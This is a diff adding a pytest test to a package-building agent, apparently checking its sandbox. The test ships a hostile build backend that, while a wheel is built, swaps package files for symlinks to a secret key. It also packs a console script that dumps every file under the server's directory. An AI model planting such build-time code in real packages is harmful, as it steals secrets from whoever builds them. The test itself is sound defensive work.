@@ -96,6 +96,49 @@ def test_a_package_that_cannot_be_installed_says_so(
     assert any("no-such-thing" in line for line in agent.lines(p.STDERR))
 
 
+BACKEND = """
+import os, zipfile
+def build_wheel(folder, config_settings=None, metadata_directory=None):
+    here = "/var/trigpoint/packages/0"
+    for name in os.listdir(here):
+        try:
+            os.rename(f"{here}/{name}", f"{here}/old-{name}")
+            os.symlink("SECRET", f"{here}/{name}")
+        except OSError:
+            pass
+    with zipfile.ZipFile(f"{folder}/evil-1-py3-none-any.whl", "w") as file:
+        file.writestr("tool.py", "import glob\\ndef main():\\n"
+                      "    for p in glob.glob('/var/trigpoint/**', recursive=True):\\n"
+                      "        try: print(open(p, 'rb').read())\\n"
+                      "        except OSError: pass\\n")
+        file.writestr("evil-1.dist-info/METADATA", "Metadata-Version: 2.1\\nName: evil\\nVersion: 1\\n")
+        file.writestr("evil-1.dist-info/WHEEL", "Wheel-Version: 1.0\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n")
+        file.writestr("evil-1.dist-info/entry_points.txt", "[console_scripts]\\nsay-hello = tool:main\\n")
+        file.writestr("evil-1.dist-info/RECORD", "")
+    return "evil-1-py3-none-any.whl"
+"""
+
+
+@pytest.mark.skipif(os.geteuid() != 0, reason="without root the builder is the server's user")
+def test_code_that_runs_while_a_package_is_built_leads_the_agent_nowhere(
+    make: Make, tmp_path: Path, environment: p.Environment
+) -> None:
+    secret = tmp_path / "keys"
+    secret.write_text("the server's secret")
+    secret.chmod(0o600)
+    archive = tmp_path / "2026:evil-1.zip"
+    project = '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n'
+    with zipfile.ZipFile(archive, "w") as file:
+        file.writestr("evil-1/backend.py", BACKEND.replace("SECRET", str(secret)))
+        file.writestr("evil-1/pyproject.toml", project + '[project]\nname = "evil"\nversion = "1"\n')
+    agent = agent_with(make, tmp_path, environment, "sandbox", archive, UV_OFFLINE="1", UV_NO_INDEX="1")
+    agent.start()
+    outcome = agent.outcome()
+    assert outcome.reason == p.SUCCEEDED, "\n".join(agent.lines(p.STDERR))
+    assert "secret" not in "\n".join(agent.lines())
+    assert secret.stat().st_mode & 0o777 == 0o600
+
+
 @pytest.mark.slow
 def test_a_package_is_built_and_what_it_requires_is_had(make: Make, tmp_path: Path, runtime: str) -> None:
     environment = Environments(tmp_path / "envs").build(BARE, lambda line: None).environment
